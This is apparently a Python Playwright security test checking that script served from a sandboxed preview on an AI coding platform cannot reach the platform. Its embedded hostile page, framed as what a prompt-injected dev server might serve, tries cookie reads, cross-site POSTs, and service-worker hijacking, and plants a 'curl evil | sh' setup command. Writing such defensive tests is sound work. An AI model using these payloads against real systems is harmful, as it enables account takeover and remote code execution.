"""A hostile preview in a real Chromium: script a sandbox serves runs on the session's own workspace host
(the platform's site, another origin), where it can touch nothing of the platform's (docs/threat-model.md).
Through the real Daphne, alone and behind nginx; the viewer is staff, whose platform session could change
any repo."""

import json

import pytest
from django.conf import settings
from django.test import Client
from playwright.sync_api import sync_playwright

from sandboxes.models import Repo
from sessions.models import Session
from tests.ide.support import ready
from tests.support.answering_server import AnsweringServer
from tests.support.waiting import eventually

pytestmark = [pytest.mark.sandbox, pytest.mark.django_db(transaction=True)]
CHROMIUM_ARGS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-component-update"]

# What a prompt-injected dev server could serve: it tries the platform with the viewer's browser, and
# writes what it got into window.results.
HOSTILE_PAGE = """<!doctype html><title>app</title><script>
const platform = PLATFORM;
const results = {cookies: document.cookie};
async function attempt(name, run) {
  try { results[name] = await run(); } catch (error) { results[name] = "refused: " + error; }
}
(async () => {
  await attempt("new_session", async () => {
    const answer = await fetch(platform + "/sessions/new", {method: "POST", credentials: "include",
      body: new URLSearchParams({repo: REPO_ID, prompt: "planted by a preview"})});
    return "status " + answer.status;
  });
  await attempt("admin", async () => {
    const answer = await fetch(platform + "/admin/sandboxes/repo/" + REPO_ID + "/change/", {method: "POST",
      credentials: "include", mode: "no-cors", body: new URLSearchParams({setup_commands: "curl evil | sh"})});
    return "sent";
  });
  await attempt("socket", () => new Promise((resolve) => {
    const socket = new WebSocket(platform.replace("http", "ws") + "/ws/sessions/SESSION_ID/");
    socket.onopen = () => resolve("opened");
    socket.onclose = () => resolve("closed");
  }));
  await attempt("worker_on_platform", async () => {
    await navigator.serviceWorker.register(platform + "/sw.js");
    return "registered";
  });
  await attempt("worker_in_own_path", async () => {
    await navigator.serviceWorker.register("sw.js");
    return "registered";
  });
  await attempt("worker_for_whole_host", async () => {
    await navigator.serviceWorker.register("sw.js", {scope: "/"});
    return "registered";
  });
  window.results = results;
})();
</script>"""


def hostile_dev_server(page: str) -> AnsweringServer:
    """The sandbox's dev server: HOSTILE_PAGE (planting a cookie named like the platform's), and a worker
    script that asks for the whole host."""
    def answer(path: str):
        if path.endswith("sw.js"):
            return b"self.addEventListener('fetch', () => {});", "text/javascript", [("Service-Worker-Allowed", "/")]
        return page.encode(), "text/html", [("Set-Cookie", "sessionid=planted; Path=/")]

    return AnsweringServer(answer)


def test_script_in_a_preview_reaches_nothing_of_the_platform(entry, users, make_session, repo):
    staff = users["root"]
    session = make_session(staff, {})
    page_text = (HOSTILE_PAGE.replace("PLATFORM", json.dumps(entry.browser_url)).replace("REPO_ID", str(repo.pk))
                 .replace("SESSION_ID", str(session.pk)))
    dev_server = hostile_dev_server(page_text)
    try:
        session.sandbox.services = {"preview-3000": ready(dev_server.port)}
        session.sandbox.save(update_fields=["services"])
        setup_before = Repo.objects.get(pk=repo.pk).setup_commands
        sessions_before = Session.objects.count()
        client = Client()
        client.force_login(staff)
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", args=CHROMIUM_ARGS)
            context = browser.new_context()
            platform = entry.browser_url
            context.add_cookies([{"name": "sessionid", "value": client.cookies["sessionid"].value, "url": platform},
                                 {"name": "csrftoken", "value": "platform-csrf", "url": platform}])
            page = context.new_page()
            page.goto(f"{entry.browser_url}/sessions/{session.pk}/")
            page.click("#tab-preview")
            frame = page.frame_locator("#preview-frame")
            frame.locator("title").wait_for(state="attached", timeout=20_000)
            host = f"http://s-{session.pk}.{settings.WORKSPACE_HOST}:{entry.port}"
            preview = next(f for f in page.frames if f.url.startswith(host))
            results = {}
            eventually(lambda: results.update(preview.evaluate("window.results || {}")) or bool(results),
                       timeout=20, what="the hostile page's attempts")
            # The same preview opened in a tab of its own ("Open in new tab"): top level on the session's host.
            tab = context.new_page()
            tab.goto(f"{entry.browser_url}/sessions/{session.pk}/open/preview-3000/")
            alone = {}
            eventually(lambda: alone.update(tab.evaluate("window.results || {}")) or bool(alone),
                       timeout=20, what="the hostile page's attempts in its own tab")
            tab_url = tab.url
            platform_cookies = {c["name"] for c in context.cookies(entry.browser_url)}
            browser.close()
    finally:
        dev_server.stop()
    # The preview runs on the session's own host, and sees none of the platform's cookies (nor its own
    # workspace cookie: HttpOnly), while the platform's survive its Set-Cookie.
    assert results["cookies"] == ""
    assert {"sessionid", "csrftoken"} <= platform_cookies
    # Cross-site requests carry no platform session: nothing was created or changed.
    assert Session.objects.count() == sessions_before
    assert Repo.objects.get(pk=repo.pk).setup_commands == setup_before
    assert results["socket"] == "closed"
    assert results["worker_on_platform"].startswith("refused")
    # Workers work within the preview's own path (real apps need them), never for the whole host.
    assert results["worker_in_own_path"] == "registered"
    assert results["worker_for_whole_host"].startswith("refused")
    # In its own tab: the same.
    assert tab_url.startswith(f"{host}/w/{session.pk}/preview-3000/")
    assert alone["cookies"] == "" and alone["socket"] == "closed"
    assert alone["worker_in_own_path"] == "registered"
    assert alone["worker_for_whole_host"].startswith("refused")
    assert alone["worker_on_platform"].startswith("refused")
    assert Session.objects.count() == sessions_before
